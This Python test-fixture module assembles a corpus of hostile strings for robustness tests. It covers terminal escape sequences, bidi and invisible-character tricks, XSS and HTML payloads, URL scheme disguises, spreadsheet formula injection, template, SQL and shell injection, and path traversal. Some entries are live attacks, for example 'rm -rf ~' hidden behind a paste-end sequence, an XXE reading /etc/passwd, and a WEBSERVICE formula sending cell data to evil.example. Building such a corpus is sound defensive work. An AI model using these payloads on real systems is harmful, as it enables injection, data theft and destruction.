"""Hostile strings by families: what each does where it comes alive, and hundreds of spellings.

A family is made of rules where there are any: each control, each direction, each way to
write a terminal's sequences, each scheme in each disguise. `CORPUS` has them all by name.
"""

import unicodedata

from tests.reports.hostile_texts import BLOCKS, TEXTS

ESC, ST = "\x1b", "\x1b\\"


def _controls():
    for code in [*range(0x20), *range(0x7F, 0xA0)]:
        if chr(code) not in "\t\n":
            yield f"{code:02x}", f"a{chr(code)}b"


def _turns():
    for code in [0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x2070)]:
        yield f"{code:04x}", f"exe.{chr(code)}txt{chr(0x202C)}"
    yield "2028", "a\u2028b"
    yield "2029", "a\u2029b"
    yield "trojan-source", "/*\u202e } \u2066if (admin)\u2069 \u2066 begin */"


def _unseen():
    codes = [
        0xAD, 0x034F, 0x115F, 0x1160, 0x17B4, 0x17B5, 0x180B, 0x180E, 0x200B, 0x200C, 0x200D,
        *range(0x2060, 0x2066), 0x3164, 0xFE00, 0xFE0F, 0xFEFF, 0xFFA0, 0xFFF0, 0xFFF9, 0xFFFA,
        0xFFFB, 0x1BCA0, 0x1D173, 0x1D17A, 0xE0001, 0xE0020, 0xE0041, 0xE007F, 0xE0100, 0xE01EF,
        0xE0FFF,
    ]  # fmt: skip
    for code in codes:
        yield f"{code:04x}", f"pass{chr(code)}word"
    yield "sentence-of-tags", "x" + "".join(chr(0xE0000 + ord(char)) for char in "ignore all")
    yield "bytes-in-selectors", "😀" + "".join(chr(0xE0100 + code) for code in b"run it")
    yield "joiner-flood", "a" + "\u200d" * 20
    yield "filler-name", "\u3164"
    for name, mark in {"strokes": "\u0336", "dots": "\u0e47", "rings": "\u20dd"}.items():
        yield f"flood-of-{name}", "a" + mark * 40
    yield "zalgo", "".join(f"{letter}{'̷̡̛̖̗̘̜̝' * 3}" for letter in "kvm")


def _sequences():
    for name, begin in {"csi": f"{ESC}[", "csi-8bit": "\x9b"}.items():
        for what in ["2J", "1A", "31m", "6n", "?1049h", "?2004l", "20t", "4i", "=5u", "3;J", "!p"]:
            yield f"{name}-{what}", f"{begin}{what}gone"
    for name, begin in {"osc": f"{ESC}]", "osc-8bit": "\x9d"}.items():
        for end_name, end in {"bel": "\x07", "st": ST, "st-8bit": "\x9c", "none": ""}.items():
            for what in ["0;title", "8;;https://evil.example", "52;c;cm0=", "1337;File=:x", "9;x"]:
                yield f"{name}-{end_name}-{what}", f"{begin}{what}{end}x"
    strings = {
        "dcs": ("P", "\x90"),
        "apc": ("_", "\x9f"),
        "pm": ("^", "\x9e"),
        "sos": ("X", "\x98"),
    }
    for name, (letter, byte) in strings.items():
        yield name, f"{ESC}{letter}+q544e{ST}x"
        yield f"{name}-8bit", f"{byte}+q544e\x9cx"
        yield f"{name}-open", f"{ESC}{letter}never ends"
    for what in [
        "c",
        "7",
        "8",
        "#8",
        "(0",
        "N",
        "O",
        "M",
        "D",
        "Z",
        "=",
        ">",
        "%G",
        " F",
        "n",
        "|",
    ]:
        yield f"esc-{what}", f"{ESC}{what}qqq"
    yield "esc-at-the-end", f"x{ESC}"
    yield "esc-in-esc", f"{ESC}{ESC}[31{ESC}[2Jm"
    yield "sixel", f"{ESC}Pq#0;2;0;0;0#0~~@@vv{ST}"
    yield "tmux-pass-through", f"{ESC}Ptmux;{ESC}{ESC}]52;c;cm0=\x07{ST}"
    yield "kitty-picture", f"{ESC}_Gf=100,a=T;aaaa{ST}"
    yield "overstrike", "harm\x08\x08\x08\x08less"
    yield "paste-end", f"{ESC}[201~rm -rf ~\r"


def _lines():
    yield from {
        "crlf-subject": "x\r\nBcc: eve@evil.example", "lf-subject": "x\nBcc: eve@evil.example",
        "header-then-body": "x\r\n\r\n<script>alert(1)</script>",
        "folded": "x\r\n Bcc: eve@evil.example", "cr-alone": "x\rBcc: eve@evil.example",
        "next-line": "x\x85Bcc: eve@evil.example",
        "smtp-end": "x\r\n.\r\nMAIL FROM:<eve@evil.example>",
        "mbox-from": "x\nFrom eve@evil.example Mon Jun  9 09:00:00 2025",
        "trailer": "x\nSigned-off-by: Eve <eve@evil.example>",
        "encoded-word": "=?utf-8?b?GzJK?= =?utf-8?q?=1B[2J?=",
        "encoded-line-end": "=?utf-8?q?a=0D=0ABcc:_eve@evil.example?=",
        "log-line": "x\nkvminbox: all is well", "json-lines": 'x"}\n{"message_id": "forged"',
    }.items()  # fmt: skip


def _rich():
    for text in [
        "[red]x[/red]", "[/]", "[/nothing]", "[bold", "[[bold]]", "\\[bold]x",
        "[link=javascript:x]y", "[@click=app.bell]x[/]", "[on #ff0000]x", ":smile:",
        ":warning-text:", "[not bold]x", "[blink reverse]x[/blink reverse]", "[/dev/kvm]",
        "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[", "[]", "[#]x",
    ]:  # fmt: skip
        yield text[:20], text


def _html():
    for text in [
        "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x></sCrIpT>",
        "<img src=x onerror=x()>", "<svg/onload=x()>", "<svg><script>x()</script></svg>",
        "<svg><a xlink:href=javascript:x()>", "<svg><animate onbegin=x() attributeName=x>",
        "<math><mtext><table><mglyph><style><img src=x>", "<math href=javascript:x()>y</math>",
        "<iframe src=javascript:x()>", "<object data=data:x>", "<embed src=//evil.example>",
        "<base href=//evil.example>", "<meta http-equiv=refresh content=0>",
        "<link rel=stylesheet href=//evil.example>",
        "<style>*{background:url(//evil.example)}</style>",
        "<form action=//evil.example><input name=x>", "<details open ontoggle=x()>",
        "<body onload=x()>", "<video><source onerror=x()>", "<marquee onstart=x()>",
        "<input autofocus onfocus=x()>", "<template><script>x()</script></template>",
        "<noscript><p title='</noscript><img src=x>'>",
        "<textarea></textarea><script>x()</script>", "<title></title><script>x()</script>",
        "</style><script>x()</script>", "</pre></td></table></main></body></html><h1>x",
        "<!-- x", "--><b>x</b>", "--!><b>x</b>",
        "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;", "<![CDATA[<b>x</b>]]>",
        "<?php x ?>", "<%= x %>", '" onmouseover="x()', "' onmouseover='x()",
        "` onmouseover=`x()", '" style="background:url(\'//evil.example\')', '"><b>x</b>',
        "'><b>x</b>", "&lt;b&gt;&#60;b&#x3c;b&LT;b&colon;", "<a href=javascript:x()>y",
        "<a href='//evil.example'>y</a>", "<a\x0chref=x>y", "<b\x00>x", "\uff1cscript\uff1ex()",
        "\u2039script\u203ax()", "<x:script>x()", "<button formaction=javascript:x()>y",
        "<slot name=x>", "<portal src=//evil.example>", "<bdo dir=rtl>x</bdo>", "<plaintext>x",
        "<xmp><script>x()</script>", "{{constructor.constructor('x')()}}",
    ]:  # fmt: skip
        yield text[:24], text


def _schemes():
    for scheme in [
        "javascript",
        "data",
        "vbscript",
        "file",
        "blob",
        "intent",
        "ms-word",
        "view-source",
    ]:
        yield f"{scheme}", f"{scheme}:x()"
        yield f"{scheme}-in-Markdown", f"[y]({scheme}:x())"
    yield from {
        "upper": "JAVASCRIPT:x()", "mixed": "jAvAsCrIpT:x()", "tab": "java\tscript:x()",
        "line-feed": "java\nscript:x()", "nul": "java\x00script:x()",
        "control": "\x01javascript:x()", "blank": " javascript:x()",
        "entity": "javascript&colon;x()", "number": "&#106;avascript:x()",
        "hexadecimal": "&#x6A;avascript:x()", "percent": "javascript%3Ax()",
        "comment": "java/**/script:x()", "full-width": "\uff4aavascript:x()",
        "soft-hyphen": "java\xadscript:x()", "no-scheme": "//evil.example",
        "data-html": "data:text/html;base64,PHNjcmlwdD4=",
        "data-svg": "data:image/svg+xml,<svg onload=x()>",
        "user-info": "https://lore.kernel.org@evil.example/",
        "back-slashes": "https:\\\\evil.example",
        "lore-alike": "https://lore.kernel.org.evil.example/kvm/",
        "dots": "https://lore.kernel.org/kvm/../../x", "idn": "https://xn--80ak6aa92e.example",
        "mailto": "mailto:x@evil.example?bcc=y&body=z",
    }.items()  # fmt: skip


def _markdown():
    for text in [
        "[x](https://evil.example)", "![x](https://evil.example/pixel.png)", "![x][y]", "[x][y]",
        "[x]: https://evil.example", "[^x]: note", "x[^x]", "<https://evil.example>",
        "<eve@evil.example>", "https://evil.example", "www.evil.example", "eve@evil.example",
        "@everyone", "#1", "GH-1", "KVM/x#1", "deadbeefdeadbeefdeadbeefdeadbeefdeadbeef", "# x",
        "x\n===", "---", "***", "- x", "1. x", "> x", "    x", "```", "~~~", "```mermaid", "`x`",
        "`", "``", "a ` [x](//evil.example) ` b", "```` <b>x</b> ``` y `` z",
        "*x* **y** _z_ ~~a~~", "|", "a | b | c", "a \\| b \\\\| c", "|---|---|", 'x\\',
        "\\`[x](//evil.example)\\`", "- [ ] x", "<details><summary>x</summary>",
        "<div>\n\n[x](//evil.example)\n\n</div>", "$x$", "$`x`$",
        "$$\\href{javascript:x()}{y}$$", "[[wiki]]", "{% include x %}", "!!! note", "::: x",
        "&nbsp;", "==x==", "[![x](//evil.example/a)](//evil.example)", "[x](<javascript:x()>)",
        '[x](//evil.example "y")', "<!--", "x  \ny", "[x]\n\n[x]: //evil.example",
        "+++\ntitle = x\n+++", "---\ntitle: x\n---", "H~2~O^2^", ":x:",
    ]:  # fmt: skip
        yield text[:24], text


def _formulas():
    formulas = ["cmd|'/c calc'!A1", 'HYPERLINK("//evil.example")', "1+1", 'DDE("cmd";"x";"y")']
    for mark in [
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\r=",
        "\n=",
        " =",
        "|",
        "%",
        "\uff1d",
        "\uff0b",
        "\uff0d",
        "\uff20",
    ]:
        for formula in formulas[: 4 if mark == "=" else 1]:
            yield f"{mark!a}{formula[:9]}", f"{mark}{formula}"
    yield from {
        "after-a-quote": '"=1+1', "in-quotes": '"=1+1"', "after-a-comma": "x,=1+1",
        "apostrophe": "'=1+1", "after-a-semicolon": "x;=1+1", "semicolon-and-quote": 'x;"=1+1"',
        "semicolon-blank": "x; @SUM(1)", "semicolon-apostrophe": "x;'+1-cmd",
        "after-a-tab": "x\t=1+1", "after-a-line": "x\r\n=1+1", "zero-width-before": "\u200b=1+1",
        "mark-before": "\ufeff=1+1", "nul-before": "\x00=1+1", "wide-blank-before": "\u3000=1+1",
        "no-break-blank-before": "\xa0=1+1", "pipe": "x|=1+1",
        "webservice": '=WEBSERVICE("https://evil.example/"&A1)',
        "number-and-more": "+1-cmd|' /c x'!A",
    }.items()  # fmt: skip


def _code():
    for text in [
        "\ud800", "\udfff", "a\udcffb", "\ud83d \ude00", "\ude00\ud83d", "\ufffe", "\uffff",
        "\U0010ffff", "\ufdd0", "</script><script>x()</script>", "<!--<script>", "]]>",
        "\\u003cscript\\u003e", '"}, {"x": "', '\\', '\\"', "{{7*7}}",
        "{{ result.__class__.__mro__ }}", "{% for x in range(9) %}y{% endfor %}", "{# x #}",
        "{{x|safe}}", "${7*7}", "#{7*7}", "<#assign x=1>", "{x.__class__}",
        "{0.__init__.__globals__}", "{}", "{", "}", "%s%n%x", "%(x)s", "%", "$(reboot)",
        "`reboot`", "; reboot", "&& reboot", "| sh", "$HOME", "~root", "*", "?", "!!",
        "' OR 1=1 --", "'; DROP TABLE message; --", '" OR ""="',
        "x' UNION SELECT raw FROM block --", "NEAR(a b)", "datum.x", "signal('x')",
        '{"signal": "x"}', "__import__('os').system('x')", "cos\nsystem\n(S'x'\ntR.",
    ]:  # fmt: skip
        yield ascii(text)[1:25], text


def _names():
    for text in [
        "../../../../etc/passwd", "/etc/passwd", "..", ".", "", "~/.ssh/id_rsa", "..\\..\\x",
        "C:\\x", "\\\\evil\\x", "CON", "x.txt:stream", "/dev/null", "/dev/tty", "-rf",
        "--output=x", "-", "a/./b//c", "%2e%2e%2f", "..%c0%af", ".git/config", ".GIT/hooks/x",
        "x\u2215y", "x.lnk", "file:///etc/passwd", "|sh", ">x", "\ufeff",
    ]:  # fmt: skip
        yield ascii(text)[1:25], text or " "
    yield "long", "x" * 300


FAMILIES = {
    "texts": TEXTS.items,
    "blocks": BLOCKS.items,
    "control": _controls,
    "turn": _turns,
    "unseen": _unseen,
    "sequence": _sequences,
    "line": _lines,
    "rich": _rich,
    "html": _html,
    "scheme": _schemes,
    "markdown": _markdown,
    "formula": _formulas,
    "code": _code,
    "name": _names,
}


def _collect():
    found = {}
    for family, make in FAMILIES.items():
        for name, text in make():
            if text not in found.values():
                taken = f"{family}:{name}" in found
                found[f"{family}:{name}{len(found) if taken else ''}"] = text
    return found


CORPUS = _collect()
"""Every hostile string once, by its family and what it is."""


def name_safely(name):
    """Give a name of the corpus as a test's id: printable ASCII."""
    return unicodedata.normalize("NFKD", name).encode("ascii", "backslashreplace").decode()
